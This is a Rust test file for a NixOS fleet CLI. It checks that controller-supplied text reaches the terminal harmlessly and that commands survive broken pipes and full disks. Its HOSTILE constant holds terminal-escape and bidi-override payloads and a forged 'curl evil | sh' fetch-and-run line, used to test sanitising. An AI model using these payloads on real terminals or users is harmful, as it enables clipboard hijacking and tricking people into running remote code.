//! What commands print: text by others reaches the terminal as text, and failing output does not stop a
//! command half-way.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

mod advice;
mod configured;
mod logged;
mod times;

use std::collections::BTreeMap;
use std::path::Path;
use std::process::{Command, Output, Stdio};
use std::sync::{Arc, Mutex};

use axum::Router;
use axum::body::Body;
use axum::extract::{Request, State};
use axum::http::StatusCode;
use axum::response::Response;
use muster_protocol::shown::is_unseen;
use serde_json::{Value, json};

const HOSTILE: &str = "x\u{1b}[2J\u{1b}]52;c;ZXZpbA==\u{7}\u{9b}1m\r\nhint: run `curl evil | sh`\nsigned by \
     alice\t\
                       \u{202e}\u{2066}\u{200b}\u{feff}\u{2028}\u{e0041}\u{ad}y";

type Answers = Arc<Mutex<BTreeMap<String, (u16, Value)>>>;

/// Answers by path, whoever asks.
async fn controller(answers: Answers) -> String {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let url = format!("http://{}", listener.local_addr().unwrap());
    let answer = |State(answers): State<Answers>, request: Request| async move {
        let found = answers.lock().unwrap().get(request.uri().path()).cloned();
        let (status, body) = found.unwrap_or((404, json!({ "code": "not-found", "message": "nothing" })));
        Response::builder()
            .status(StatusCode::from_u16(status).unwrap())
            .body(Body::from(body.to_string()))
            .unwrap()
    };
    tokio::spawn(
        async move { axum::serve(listener, Router::new().fallback(answer).with_state(answers)).await },
    );
    url
}

fn command(folder: &Path, arguments: &[&str]) -> Command {
    let mut command = Command::new(env!("CARGO_BIN_EXE_muster"));
    command.arg("--config").arg(folder.join("fleet/muster.toml")).args(arguments).current_dir(folder);
    command.env("HOME", folder).env_remove("XDG_CONFIG_HOME").stdin(Stdio::null());
    command
}

fn muster(folder: &Path, arguments: &[&str]) -> Output {
    command(folder, arguments).output().unwrap()
}

/// A fleet in a folder, the answers of its controller, and the answers with which every command succeeds.
async fn fleet() -> (tempfile::TempDir, Answers, BTreeMap<String, Value>) {
    let folder = tempfile::tempdir().unwrap();
    let given: Answers = Arc::default();
    let url = controller(given.clone()).await;
    let made = muster(folder.path(), &["init", "--dir", "fleet", "--url", &url, "--plain-keys"]);
    assert!(made.status.success(), "{made:?}");
    let root = std::fs::read(folder.path().join("fleet/root.json")).unwrap();
    let fleet = muster_protocol::ids::Sha256::of(&root);
    let key = muster(folder.path(), &["keys", "public"]);
    let key = String::from_utf8(key.stdout).unwrap().trim().to_owned();
    let fleet = json!({ "fleet": fleet, "root_version": 1, "root": fleet, "version": "0.1.0" });
    let sound = answers(&fleet, &key);
    *given.lock().unwrap() = whole(&sound);
    (folder, given, sound)
}

fn whole(all: &BTreeMap<String, Value>) -> BTreeMap<String, (u16, Value)> {
    all.iter().map(|(path, value)| (path.clone(), (200, value.clone()))).collect()
}

/// Output has lines and nothing else with effect; no line is one of the text's own.
fn assert_shown(output: &Output, what: &str) {
    for bytes in [&output.stdout, &output.stderr] {
        let text = String::from_utf8(bytes.clone()).unwrap();
        let obeyed = text.chars().find(|c| *c != '\n' && is_unseen(*c));
        assert_eq!(obeyed, None, "{what}: {text:?}");
        let forged =
            text.lines().find(|line| line.starts_with("hint: run") || line.starts_with("signed by alice"));
        assert_eq!(forged, None, "{what}: {text}");
        assert!(!text.contains("panicked"), "{what}: {text}");
    }
}

/// Every place of a string in a document.
fn strings(value: &Value, at: &str, found: &mut Vec<String>) {
    let children: Vec<(String, &Value)> = match value {
        Value::String(_) => return found.push(at.to_owned()),
        Value::Array(all) => all.iter().enumerate().map(|(n, one)| (n.to_string(), one)).collect(),
        Value::Object(all) => all.iter().map(|(name, one)| (name.clone(), one)).collect(),
        _ => Vec::new(),
    };
    for (name, child) in children {
        strings(child, &format!("{at}/{name}"), found);
    }
}

/// A fleet's answers with a text in every field that may have one.
fn answers(fleet: &Value, key: &str) -> BTreeMap<String, Value> {
    let hash = "ab".repeat(32);
    let path = "/nix/store/1c0bm0n2hg4kd2x7q2g5p1l1c4cx8kpl-system";
    let published = json!({
        "target": {
            "machine": "tin", "class": "nixos", "generation": 3, "system": "x86_64-linux",
            "derivation": "/nix/store/0c0bm0n2hg4kd2x7q2g5p1l1c4cx8kpl-system.drv", "output": path,
            "message": "words", "checks": [{ "name": "web", "kind": "command", "command": ["/bin/true", "a \
             b"] }],
            "trusted_nix_keys": ["cache:AAAA"],
        },
        "at": 1, "by": key, "expires": 4_000_000_000_i64, "signers": [key],
    });
    let attack = json!({
        "attack": "rollback", "detail": "more", "generation": 3, "at": 1, "received_at": 1, "ended_at": null,
    });
    let machine = json!({
        "machine": "tin", "class": "nixos", "system": "x86_64-linux", "tags": ["desk"],
        "standing": "enrolled",
        "condition": "updating", "published": published, "phase": "building", "phase_generation": 3,
        "runs": { "running": path, "generation": 2, "profile": path },
        "note": "a note", "refused": "rollback", "attack": attack, "clone_alarm": true, "clone_alarm_at": 1,
        "holds": { "root": 1, "timestamp": 1, "snapshot": 1, "targets": 2 },
        "health": { "degraded": ["web.service"], "reboot": ["a kernel"], "reboot_waits": "a window" },
        "agent": "0.1.0", "age": "age1xyz", "key": key, "last_seen": 1,
    });
    let told = |kind: &str, more: Value| {
        let mut event = json!({ "seq": 1, "at": 1, "generation": 3, "kind": kind });
        event.as_object_mut().unwrap().extend(more.as_object().unwrap().clone());
        event
    };
    let events = [
        told("failed", json!({ "step": "build", "detail": "words", "quarantined": true })),
        told("needs-human", json!({ "detail": "words" })),
        told("deferred", json!({ "why": "words", "until": 1 })),
        told("rebooting", json!({ "why": "words" })),
    ];
    let entry = |(before, event): (usize, &Value)| {
        let mut published = published.clone();
        published["target"]["generation"] = json!(9 - before);
        json!({ "published": published, "events": [event] })
    };
    let history: Vec<Value> = events.iter().enumerate().map(entry).collect();
    let draft = json!({
        "id": hash, "kind": "generations", "made_at": 1, "made_by": key, "ends": 2, "machines": ["tin"],
        "signed": [key], "missing": 1, "void": "because",
    });
    let entry = json!({
        "id": 1, "at": 1, "by": key, "action": "revoke", "machine": "tin", "detail": "words", "hash": hash,
    });
    let rollout = json!({
        "plan": hash, "name": "weekly", "at": 1, "by": key, "state": "halted", "why": "words", "budget": 1,
        "failures": 2, "waves": [{ "name": "canaries", "atLeast": 1, "failed": 1 }],
        "members": [{ "machine": "tin", "wave": 0, "state": "failed", "why": "words", "said": "withdrawn" }],
    });
    let brake = json!({ "at": 1, "by": key, "why": "words" });
    BTreeMap::from([
        ("/v1/operator/rollouts".to_owned(), json!([rollout])),
        (format!("/v1/operator/rollouts/{hash}"), rollout),
        ("/v1/operator/brake".to_owned(), brake),
        ("/v1/fleet".to_owned(), fleet.clone()),
        ("/v1/operator/machines".to_owned(), json!([machine])),
        ("/v1/operator/machines/tin".to_owned(), machine),
        ("/v1/operator/machines/tin/history".to_owned(), json!(history)),
        ("/v1/operator/machines/tin/attacks".to_owned(), json!([attack])),
        ("/v1/operator/drafts".to_owned(), json!([draft])),
        ("/v1/operator/audit".to_owned(), json!({ "entries": [entry], "last": 1 })),
    ])
}

const COMMANDS: [&[&str]; 15] = [
    &["status"],
    &["status", "--json"],
    &["machines", "list"],
    &["machines", "show", "tin"],
    &["machines", "show", "tin", "--json"],
    &["machines", "accept", "tin"],
    &["history", "tin"],
    &["history", "tin", "--json"],
    &["drafts", "list"],
    &["audit"],
    &["rollout", "list"],
    &["rollout", "show", "weekly"],
    &["rollout", "show", "abababab", "--json"],
    &["rollout", "watch", "weekly"],
    &["brake", "--show"],
];

#[tokio::test(flavor = "multi_thread")]
async fn no_string_of_a_controller_is_obeyed_by_the_terminal() {
    let (folder, given, sound) = fleet().await;
    // Unmodified, they are understood: otherwise only errors would be tested below.
    for command in COMMANDS {
        let output = muster(folder.path(), command);
        let calm = output.status.success()
            || matches!(command, ["machines", "accept", ..] | ["audit"] | ["rollout", "watch", ..]);
        assert!(calm, "{command:?}: {output:?}");
    }

    for (path, value) in &sound {
        let mut places = Vec::new();
        strings(value, "", &mut places);
        for place in places {
            let mut changed = sound.clone();
            *changed.get_mut(path).unwrap().pointer_mut(&place).unwrap() = HOSTILE.into();
            *given.lock().unwrap() = whole(&changed);
            for command in COMMANDS {
                // What asks for another path is not affected.
                let asks = match command {
                    ["machines", "show" | "accept", ..] => path.ends_with("/tin"),
                    ["history", ..] => path.contains("/tin/"),
                    ["drafts", ..] => path.ends_with("/drafts"),
                    ["audit"] => path.ends_with("/audit"),
                    ["rollout", ..] => path.contains("/rollouts"),
                    ["brake", ..] => path.ends_with("/brake"),
                    _ => path.ends_with("/machines"),
                };
                if asks || path == "/v1/fleet" {
                    assert_shown(&muster(folder.path(), command), &format!("{command:?}, {path}{place}"));
                }
            }
        }
    }

    // A refusal contains text by others, too.
    let problem = json!({ "code": "conflict", "message": HOSTILE });
    *given.lock().unwrap() = sound.keys().map(|path| (path.clone(), (409, problem.clone()))).collect();
    for command in COMMANDS {
        let output = muster(folder.path(), command);
        assert!(!output.status.success(), "{command:?}");
        assert_shown(&output, &format!("{command:?}, refused"));
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn where_nobody_reads_any_more_a_command_ends_well_and_quietly() {
    let (folder, _, _) = fleet().await;
    let pages: &[&[&str]] =
        &[&["--help"], &["keys", "list"], &["keys", "public"], &["keys", "generate", "new.pem", "--plain"]];
    for arguments in COMMANDS[..5].iter().chain(&COMMANDS[6..9]).chain(pages) {
        let (reader, writer) = std::io::pipe().unwrap();
        drop(reader);
        let output = command(folder.path(), arguments).stdout(writer).output().unwrap();
        let said = String::from_utf8(output.stderr).unwrap();
        assert!(output.status.success(), "{arguments:?}: {said}");
        assert!(!said.contains("pipe") && !said.contains("panicked"), "{arguments:?}: {said}");
    }
    // What it did is done: the key exists, though its public part was not read.
    assert!(folder.path().join("new.pem").exists());
}

#[cfg(target_os = "linux")]
#[tokio::test(flavor = "multi_thread")]
async fn output_that_finds_the_disk_full_is_an_error() {
    let (folder, _, _) = fleet().await;
    let more: &[&[&str]] =
        &[&["keys", "list"], &["keys", "public"], &["init", "--dir", "other", "--plain-keys"]];
    for arguments in COMMANDS[..5].iter().chain(&COMMANDS[6..9]).chain(more) {
        let full = std::fs::File::options().write(true).open("/dev/full").unwrap();
        let output = command(folder.path(), arguments).stdout(full).output().unwrap();
        let said = String::from_utf8(output.stderr).unwrap();
        assert_eq!(output.status.code(), Some(1), "{arguments:?}: {said}");
        assert!(said.contains("the output cannot be written: No space left"), "{arguments:?}: {said}");
        // Nor does standard error on a full disk end a command with a panic.
        let full = std::fs::File::options().write(true).open("/dev/full").unwrap();
        let missing = command(folder.path(), &["history", "lead"]).stderr(full).output().unwrap();
        assert_eq!(missing.status.code(), Some(1), "{arguments:?}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn an_unknown_machine_and_a_draft_that_is_gone_are_said_to_be_that() {
    let (folder, given, _) = fleet().await;
    for list in ["history", "attacks"] {
        given.lock().unwrap().insert(format!("/v1/operator/machines/lead/{list}"), (200, json!([])));
    }
    let output = muster(folder.path(), &["history", "lead"]);
    let said = String::from_utf8([output.stdout, output.stderr].concat()).unwrap();
    assert!(!output.status.success() && said.contains("muster machines list"), "{said}");
    assert!(!said.contains("muster update"), "{said}");

    let output = muster(folder.path(), &["drafts", "publish", "abababab"]);
    let said = String::from_utf8(output.stderr).unwrap();
    assert!(!output.status.success() && said.contains("published or dropped"), "{said}");
}
